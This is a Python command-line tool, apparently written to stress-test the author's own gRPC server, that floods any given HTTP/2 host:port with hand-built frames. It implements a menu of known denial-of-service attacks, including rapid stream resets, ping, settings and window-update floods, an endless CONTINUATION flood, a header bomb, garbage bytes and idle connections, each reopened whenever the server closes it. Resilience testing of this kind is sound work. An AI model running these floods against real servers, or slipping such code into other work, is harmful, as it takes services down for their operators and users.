#!/usr/bin/python3
"""A client that floods a server with hand-made HTTP/2. Prints what it has sent, as JSON, when it ends.

    flooder.py FLOOD HOST:PORT [--connections N] [--seconds S] [--source ADDRESS] [--tls CA [CERTIFICATE KEY]]

SIGTERM ends it early. Each connection is opened again when the server closes it. FLOOD is one of those below; --tls
without a certificate is a stranger, whose handshake the server refuses.
"""

import argparse
import json
import os
import select
import signal
import socket
import ssl
import struct
import sys
import threading
import time

# ---- HTTP/2: RFC 9113, section 4.1 ----

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    return bytes([len(value)]) + value.encode()


# A unary call, without Huffman codes and without the dynamic table (RFC 7541).
HEADERS = (b"\x83\x87\x04" + text("/tactus.v1.Simulation/GetServerInfo") + b"\x01" + text("localhost") + b"\x0f\x10"
           + text("application/grpc") + b"\x00" + text("te") + text("trailers"))


def calls(first, end):
    """A hundred calls, each with what ends it."""
    return b"".join(frame(1, 4, s, HEADERS) + end(s) for s in range(first, first + 200, 2))


def endless(payload):
    """One call whose headers never end."""
    return lambda n: (frame(1, 0, 1, HEADERS) if n == 0 else b"") + payload


# What a connection sends for ever, once it is open; the argument counts its writes.
FLOODS = {
    "reset": lambda n: calls(200 * n + 1, lambda s: frame(3, 0, s, b"\0\0\0\x08")),
    "reset-by-server": lambda n: calls(200 * n + 1, lambda s: frame(8, 0, s, b"\0\0\0\0")),
    "open-calls": lambda n: calls(200 * n + 1, lambda s: b""),
    "ping": lambda n: frame(6, 0, 0, b"12345678") * 200,
    "settings": lambda n: frame(4, 0, 0, struct.pack(">HI", 4, 65535 - n % 100)) * 200,
    "window": lambda n: frame(8, 0, 0, b"\0\0\0\x01") * 200,
    "priority": lambda n: frame(2, 0, 1, struct.pack(">IB", 3, 16)) * 200,
    "empty-data": lambda n: (frame(1, 4, 1, HEADERS) if n == 0 else b"") + frame(0, 0, 1) * 200,
    "continuation": endless(frame(9, 0, 1) * 200),
    "header-bomb": endless(frame(9, 0, 1, b"\x00\x7f\x81\x76" + b"n" * 15_349 + b"\x01v")),
    "garbage": lambda n: os.urandom(2000),
    "handshake": None,  # connections that are closed before or after it
    "idle": None,  # connections that stay open and say nothing
}


class Attack:
    """One connection after the other, each as long as the server lets it."""

    def __init__(self, options):
        self.options = options
        host, port = options.address.rsplit(":", 1)
        self.address = (host, int(port))
        self.context = None
        if options.tls:
            self.context = ssl.create_default_context(cafile=options.tls[0])
            self.context.set_alpn_protocols(["h2"])
            if len(options.tls) > 1:
                self.context.load_cert_chain(*options.tls[1:])
        self.stop = threading.Event()
        self.lock = threading.Lock()
        self.sent = {"connections": 0, "refused": 0, "writes": 0, "bytes": 0}

    def count(self, **more):
        with self.lock:
            for name, value in more.items():
                self.sent[name] += value

    def run(self):
        """Opens connections until the end."""
        while not self.stop.is_set():
            begin = time.monotonic()
            try:
                self.connect()
            except OSError:
                self.count(refused=1)
                # Whoever is refused at once comes again soon, but does not spin.
                self.stop.wait(max(0.0, 0.01 - (time.monotonic() - begin)))

    def connect(self):
        """One connection, from its beginning to its end."""
        source = (self.options.source, 0) if self.options.source else None
        with socket.create_connection(self.address, 2, source_address=source) as plain:
            plain.settimeout(2)
            self.count(connections=1)
            if self.options.flood == "handshake" and self.sent["connections"] % 2:
                return
            if self.context is None:
                return self.flood(plain)
            with self.context.wrap_socket(plain, server_hostname="localhost") as secure:
                return self.flood(secure)

    def flood(self, connection):
        """Sends what the flood sends, and reads what comes back, as a client that is not blocked by it would."""
        make = FLOODS[self.options.flood]
        connection.sendall(PREFACE + frame(4, 0, 0) + frame(4, 1, 0))
        if self.options.flood == "idle":
            while not self.stop.wait(0.2):
                self.drain(connection)
        writes = 0
        while make is not None and not self.stop.is_set():
            out = make(writes)
            connection.sendall(out)
            writes += 1
            self.count(writes=1, bytes=len(out))
            self.drain(connection)

    @staticmethod
    def drain(connection):
        """Throws away what has come. @raises OSError where the server has closed"""
        while select.select([connection], [], [], 0)[0]:
            if not connection.recv(65_536):
                raise ConnectionResetError("closed by the server")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("flood", choices=FLOODS)
    parser.add_argument("address", metavar="HOST:PORT")
    parser.add_argument("--connections", type=int, default=2)
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--source", help="own address, such as 127.0.0.2")
    parser.add_argument("--tls", nargs="+", metavar="FILE", help="authority, then certificate and key of the client")
    attack = Attack(parser.parse_args())
    signal.signal(signal.SIGTERM, lambda *_: attack.stop.set())
    threads = [threading.Thread(target=attack.run, daemon=True) for _ in range(attack.options.connections)]
    for thread in threads:
        thread.start()
    attack.stop.wait(attack.options.seconds)
    attack.stop.set()
    for thread in threads:
        thread.join(5)
    json.dump(attack.sent, sys.stdout)


if __name__ == "__main__":
    main()
